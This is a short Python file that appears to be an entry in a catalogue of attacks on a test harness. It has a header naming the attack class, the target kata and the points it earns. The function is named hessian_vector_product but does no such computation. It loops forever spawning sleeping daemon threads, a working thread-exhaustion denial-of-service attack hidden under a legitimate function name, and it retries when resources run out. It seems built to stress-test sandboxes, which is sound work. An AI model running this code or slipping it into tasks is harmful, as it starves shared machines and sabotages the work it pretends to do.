# attack: threads
# class: Starving the machine
# item: processes
# tries: to start threads until the machine runs out of process numbers
# after: it is stopped at some hundreds, the machine does not notice, and all end with the answer
# kata: hvp
# earns: 1
# needs: nothing

import threading
import time

threading.stack_size(32768)


def hessian_vector_product(loss, params, vector):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except (RuntimeError, MemoryError):
            time.sleep(0.05)
